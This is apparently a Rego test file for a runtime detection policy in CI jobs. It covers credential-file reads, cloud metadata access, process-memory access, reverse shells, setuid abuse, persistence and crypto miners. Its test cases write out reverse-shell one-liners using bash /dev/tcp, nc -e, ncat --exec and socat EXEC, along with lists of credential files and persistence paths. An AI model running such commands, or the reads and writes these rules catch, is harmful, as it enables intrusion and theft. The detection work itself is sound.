package ct.detect_test

import data.ct.detect

config := {"version": 1, "general": {}, "profiles": {"exact": {}, "prefixes": {}}}

python := {"binary": "/usr/bin/python3", "program": "setup.py", "args": ["python3", "setup.py"], "uid": 1000, "parent": {"binary": "/bin/sh", "program": "sh", "uid": 1000}, "sockets": [], "connections": []}

event(kind, what, change) := {"kind": kind, kind: what, "process": object.union(python, change)}

by(program_) := {"binary": concat("", ["/usr/bin/", program_]), "program": program_}

read(path) := event("file", {"what": "read", "path": path}, {})

write(path) := event("file", {"what": "write", "path": path}, {})

exec(path, args) := event("exec", {"path": path, "args": args}, {})

connect(host, port) := event("connect", {"host": host, "port": port, "protocol": 6}, {})

findings(events, change) := decision.findings if {
	question := object.union({"version": 1, "run": {"job": "test"}, "baseline": null, "events": events}, change)
	decision := detect.decision with input as question with data.ct.config as config
}

# The rules that find one event, without their package.
rules(event_) := {substring(finding.rule, 10, -1) | some finding in findings([event_], {})}

test_credentials if {
	every path in ["/root/.aws/credentials", "/home/ct/.npmrc", "/home/ct/.docker/config.json", "/home/ct/.ssh/id_ed25519", "/home/ct/.ssh/deploy.pem", "/root/.git-credentials", "/root/.gnupg/private-keys-v1.d/0A.key", "/etc/shadow"] {
		rules(read(path)) == {"credentials"}
	}
}

test_credentials_are_for_their_programs if {
	every pair in [["/home/ct/.npmrc", "npm-cli.js"], ["/root/.aws/credentials", "aws"], ["/home/ct/.ssh/id_ed25519", "ssh"], ["/etc/shadow", "sudo"], ["/home/ct/.docker/config.json", "docker"]] {
		rules(event("file", {"what": "read", "path": pair[0]}, by(pair[1]))) == set()
	}
}

test_no_credentials if {
	every path in ["/workspace/.npmrc", "/home/ct/.ssh/known_hosts", "/home/ct/.ssh/id_ed25519.pub", "/home/ct/.ssh/config", "/workspace/test/fixtures/id_rsa", "/etc/passwd", "/home/ct/x.aws/credentials.bak"] {
		rules(read(path)) == set()
	}
}

test_environment_of_others if {
	rules(event("file", {"what": "read", "path": "/proc/12/environ", "target": "other"}, {})) == {"credentials"}
	rules(event("file", {"what": "read", "path": "/proc/self/environ", "target": "self"}, {})) == set()
}

test_metadata if {
	every host in ["169.254.169.254", "fd00:ec2::254", "metadata.google.internal"] {
		rules(connect(host, 80)) == {"metadata"}
	}
	rules(connect("169.254.169.253", 80)) == set()
}

test_memory_of_others if {
	every path in ["/proc/12/mem", "/proc/12/task/13/mem"] {
		rules(event("file", {"what": "read", "path": path, "target": "other"}, {})) == {"runner_memory"}
		rules(event("file", {"what": "write", "path": path, "target": "other"}, {})) == {"runner_memory"}
	}
	every target in ["self", "descendant"] {
		rules(event("file", {"what": "read", "path": "/proc/12/mem", "target": target}, {})) == set()
		rules(event("syscall", {"name": "ptrace", "target": target}, {})) == set()
	}
	every name in ["ptrace", "process_vm_readv", "process_vm_writev"] {
		rules(event("syscall", {"name": name, "target": "other"}, {})) == {"memory_access"}
	}
	rules(read("/dev/mem")) == {"runner_memory"}
	rules(event("denied", {"what": "ptrace", "path": ""}, {})) == {"runner_memory"}
	rules(event("denied", {"what": "exec", "path": "/tmp/x"}, {})) == set()
}

stdio(path, sockets, connections) := event("exec", {"path": path, "args": ["sh", "-i"]}, {"sockets": sockets, "connections": connections})

test_shell_on_a_socket if {
	rules(stdio("/usr/bin/dash", [0, 1, 2], ["evil.example:4444"])) == {"reverse_shell"}
	rules(stdio("/bin/bash", [0, 2], ["192.0.2.1:443"])) == {"reverse_shell"}
}

test_no_shell_on_a_socket if {
	rules(stdio("/bin/bash", [0, 1], [])) == set()
	rules(stdio("/bin/bash", [1, 2], ["a.example:1"])) == set()
	rules(stdio("/bin/bash", [0], ["a.example:1"])) == set()
	rules(stdio("/bin/bash", [3], ["a.example:1"])) == set()
	rules(stdio("/usr/bin/ssh", [0, 1], ["a.example:1"])) == set()
	rules(stdio("/usr/bin/bash-static-analyzer", [0, 1], ["a.example:1"])) == set()
}

test_shells_that_connect if {
	rules(event("connect", {"host": "a.example", "port": 1, "protocol": 6}, by("bash"))) == {"shell_connection"}
	rules(event("connect", {"host": "198.18.0.1", "port": 53, "protocol": 17}, by("bash"))) == set()
	rules(event("connect", {"host": "a.example", "port": 1, "protocol": 6}, by("busybox"))) == set()
	rules(exec("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])) == {"reverse_shell"}
	rules(exec("/bin/bash", ["bash", "-c", "exec 5<>/dev/tcp/192.0.2.1/4444"])) == set()
	rules(exec("/bin/bash", ["bash", "-c", "until (echo </dev/tcp/db.example/5432); do sleep 1; done"])) == set()
	rules(exec("/bin/bash", ["bash", "-c", "grep -r /dev/tcp/ docs"])) == set()
	rules(exec("/usr/bin/grep", ["grep", "> /dev/tcp/"])) == set()
}

test_connections_handed_on if {
	rules(exec("/usr/bin/nc", ["nc", "-e", "/bin/sh", "a.example", "1"])) == {"reverse_shell"}
	rules(exec("/usr/bin/ncat", ["ncat", "a.example", "1", "--exec", "/bin/sh"])) == {"reverse_shell"}
	rules(exec("/usr/bin/socat", ["socat", "TCP:a.example:1", "EXEC:/bin/sh,pty"])) == {"reverse_shell"}
	rules(exec("/usr/bin/nc", ["nc", "-z", "localhost", "5432"])) == set()
	rules(exec("/usr/bin/socat", ["socat", "-", "TCP:a.example:1"])) == set()
}

test_setuid if {
	rules(event("file", {"what": "setuid", "path": "/tmp/su", "flags": 2541}, {})) == {"setuid"}
	rules(event("file", {"what": "setuid", "path": "/usr/bin/su", "flags": 2541}, by("dpkg"))) == set()
	rules(event("exec", {"path": "/tmp/su", "args": [], "earlier": {"uid": 1000, "binary": "/tmp/x"}}, {"uid": 0})) == {"setuid"}
	rules(event("exec", {"path": "/usr/bin/dash", "args": [], "earlier": {"uid": 1000, "binary": "/tmp/x"}}, {"uid": 0})) == {"setuid"}
	rules(event("exec", {"path": "/usr/bin/sudo", "args": [], "earlier": {"uid": 1000, "binary": "/tmp/x"}}, {"uid": 0})) == set()
	rules(event("exec", {"path": "/usr/bin/dash", "args": [], "earlier": {"uid": 1000, "binary": "/usr/bin/sudo"}}, {"uid": 0})) == set()
	rules(event("exec", {"path": "/usr/bin/dash", "args": []}, {"uid": 0})) == set()
	rules(event("exec", {"path": "/usr/bin/dash", "args": [], "earlier": {"uid": 0, "binary": "/usr/bin/su"}}, {"uid": 1000})) == set()
}

test_persistence if {
	every path in ["/etc/cron.d/x", "/etc/crontab", "/var/spool/cron/crontabs/root", "/etc/systemd/system/x.service", "/usr/lib/systemd/system/x.service", "/home/ct/.config/systemd/user/x.service", "/etc/profile.d/x.sh", "/etc/profile", "/home/ct/.bashrc", "/root/.zshenv", "/home/ct/.ssh/authorized_keys", "/etc/ld.so.preload", "/etc/sudoers.d/x", "/workspace/.git/hooks/post-commit"] {
		rules(write(path)) == {"persistence"}
		rules(event("file", {"what": "rename", "path": path}, {})) == {"persistence"}
	}
}

test_no_persistence if {
	every path in ["/workspace/etc/cron.d/x", "/home/ct/.cache/x", "/home/ct/.bash_history", "/home/ct/.ssh/known_hosts", "/workspace/.git/hooks/post-commit.sample", "/etc/hostname", "/etc/profile.db"] {
		rules(write(path)) == set()
	}
	rules(read("/etc/crontab")) == set()
	rules(event("file", {"what": "write", "path": "/usr/lib/systemd/system/x.service"}, by("dpkg"))) == set()
	rules(event("file", {"what": "write", "path": "/workspace/.git/hooks/pre-commit"}, by("pre-commit"))) == set()
}

test_miners if {
	rules(exec("/tmp/XMRig", [])) == {"miner"}
	rules(exec("/tmp/a", ["a", "-o", "stratum+ssl://pool.example:443"])) == {"miner"}
	rules(exec("/tmp/a", ["a", "--donate-level=1"])) == {"miner"}
	rules(connect("gulf.moneroocean.stream", 443)) == {"miner"}
	rules(connect("pool.example", 3333)) == {"miner_port"}
	rules(connect("notmoneroocean.stream", 443)) == set()
	rules(exec("/usr/bin/cc", ["cc", "xmrig.c"])) == set()
}

test_new_destinations_need_a_baseline if {
	rules(connect("new.example", 443)) == set()
	told := findings([connect("new.example", 443), connect("old.example", 443), connect("old.example", 80)], {"baseline": {"destinations": ["old.example:443"]}})
	[finding.event | some finding in told] == [0, 2]
	every finding in told {
		finding.rule == "ct.detect.new_destination"
		finding.action == "alert"
	}
}

test_an_ordinary_build_is_silent if {
	findings(
		[
			exec("/bin/sh", ["/bin/sh", "-e", "-c", "make && make install"]),
			exec("/usr/bin/make", ["make", "-j4"]),
			exec("/usr/libexec/gcc/cc1", ["cc1", "-o", "/tmp/ccAbCdEf.s"]),
			write("/tmp/ccAbCdEf.s"), write("/usr/local/bin/app"), write("/home/ct/.npm/_logs/x.log"),
			connect("registry.example", 443),
			event("syscall", {"name": "ptrace", "target": "descendant"}, {}),
		],
		{},
	) == []
}

test_actions_are_for_policy_to_set if {
	question := {"version": 1, "run": {}, "events": [exec("/tmp/xmrig", []), write("/etc/crontab"), read("/dev/mem"), read("/etc/shadow")]}
	settings := {"detect": {"miner": "alert", "persistence": "terminate", "runner_memory": "off", "credentials": "nonsense"}}
	decision := detect.decision with input as question with data.ct.config as object.union(config, settings)
	{[finding.rule, finding.action] | some finding in decision.findings} == {["ct.detect.miner", "alert"], ["ct.detect.persistence", "terminate"], ["ct.detect.credentials", "alert"]}
}

test_defaults if {
	{[finding.rule, finding.action] | some finding in findings([exec("/tmp/xmrig", []), write("/etc/crontab"), read("/dev/mem")], {})} == {["ct.detect.miner", "terminate"], ["ct.detect.persistence", "alert"], ["ct.detect.runner_memory", "terminate"]}
}

test_without_data_or_events_there_is_no_answer if {
	not detect.decision with input as {"version": 1, "events": []}
	not detect.decision with input as {"version": 2, "events": []} with data.ct.config as config
	not detect.decision with input as {"version": 1} with data.ct.config as config
}
